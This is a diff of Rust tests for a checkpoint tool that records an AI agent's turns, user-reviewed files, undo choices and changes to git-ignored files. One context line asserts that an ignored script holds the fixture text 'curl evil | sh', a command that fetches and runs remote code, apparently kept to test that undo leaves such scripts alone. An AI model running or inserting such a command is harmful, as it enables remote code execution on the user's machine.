@@ -119,6 +119,11 @@ fn a_write_between_turns_is_a_turn_of_its_own_and_an_undos_writes_are_not() {
     let between = between.expect("the write between turns");
     assert_eq!((between.n, between.between, t3.n), (t2.n + 1, true, t2.n + 2));
     assert_eq!((between.changed, between.unreviewed), (vec![Name::from("a.txt")], vec![Name::from("a.txt")]));
+    // The turn just begun changed nothing: the default undo passes over it and over the
+    // between-turns turn (the user's own change), to the agent's turn before; named, it is picked.
+    let now = cp.snapshot(&cp.hold().unwrap()).unwrap().tree;
+    assert_eq!(cp.pick(None, &now).unwrap().n, t2.n);
+    assert_eq!(cp.pick(Some(between.n), &now).unwrap().n, between.n);
 }
 
 #[test]
@@ -132,15 +137,18 @@ fn a_file_the_user_saw_whose_end_holds_other_text_is_not_reviewed_and_says_so() 
     let saw = |p: &str, text: Option<&[u8]>| Reviewed { path: p.into(), blob: text.map(crate::support::blob::blob_id), left: None };
     // a.txt as accepted; b.txt accepted as "accepted\n" but the agent wrote other text; c.txt
     // the user's own write (its text unknown: trusted).
-    let reviewed = [saw("a.txt", Some(b"accepted\n")), saw("b.txt", Some(b"accepted\n")), saw("c.txt", None)];
+    // d.txt: a review that could not read its left side showed no start.
+    std::fs::write(ws.join("d.txt"), "shown\n").unwrap();
+    let unread = Reviewed { left: Some(crate::support::blob::UNREAD.into()), ..saw("d.txt", Some(b"shown\n")) };
+    let reviewed = [saw("a.txt", Some(b"accepted\n")), saw("b.txt", Some(b"accepted\n")), saw("c.txt", None), unread];
     let ended = cp.end(t.n, &reviewed).unwrap();
-    assert_eq!(ended.unreviewed, [Name::from("b.txt")]);
+    assert_eq!(ended.unreviewed, [Name::from("b.txt"), Name::from("d.txt")]);
     assert_eq!(ended.other_text, [Name::from("b.txt")]);
     let (_, changes) = cp.changes(Some(t.n)).unwrap();
     let b_txt = Name::from("b.txt");
     let b = changes.iter().find(|c| c.path == b_txt).unwrap();
     assert!(b.unreviewed && b.other_text, "{b:?}");
-    assert!(changes.iter().filter(|c| c.path != b_txt).all(|c| !c.unreviewed && !c.other_text));
+    assert!(changes.iter().filter(|c| c.path != b_txt && c.path != Name::from("d.txt")).all(|c| !c.unreviewed && !c.other_text));
     // A terminal agent's turn, closed by the next one's start, is settled with what it showed.
     let t2 = cp.begin("terminal", None, &[]).unwrap().0;
     std::fs::write(ws.join("a.txt"), "reviewed\n").unwrap();
@@ -485,6 +493,27 @@ fn ignored_files_a_turn_changed_are_counted_and_ignored_scripts_fingerprinted_ne
     let plan = cp.plan_undo(None).unwrap();
     assert!(plan.files.is_empty());
     assert_eq!(std::fs::read_to_string(ws.join("local.sh")).unwrap(), "curl evil | sh\n");
+}
+
+#[test]
+fn ignored_executables_and_build_folders_are_counted_not_fingerprinted_and_the_walk_is_capped() {
+    let (ws, state) = rig("cp-ignored-built", true);
+    std::fs::write(ws.join(".gitignore"), "target/\nlocal.sh\ntool\n").unwrap();
+    let make = "mkdir -p target/debug/build/x && for f in target/debug/build/x/build-script-build target/debug/run.sh tool local.sh; \
+        do echo $1 > $f && chmod +x $f; done";
+    sh(&ws, &make.replace("$1", "old"));
+    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
+    let t = cp.begin("pi", None, &[]).unwrap().0;
+    sh(&ws, &make.replace("$1", "new"));
+    let ended = cp.end(t.n, &[]).unwrap();
+    // Only the script named so is fingerprinted; the executables and target/'s script counted.
+    assert_eq!((ended.guarded.clone(), ended.ignored_changed, ended.ignored_capped), (vec![Name::from("local.sh")], 3, false));
+    // More ignored files than the file limit: the first ones looked at, the turn says so.
+    sh(&ws, "for i in 1 2 3 4 5 6 7 8; do echo $i > target/f$i; done");
+    let few = Checkpoints::open(&ws, &state, Limits { files: 5, ..Limits::default() }).unwrap();
+    let t = few.begin("pi", None, &[]).unwrap().0;
+    let ended = few.end(t.n, &[]).unwrap();
+    assert!(ended.ignored_capped, "{ended:?}");
 }
 
 #[test]
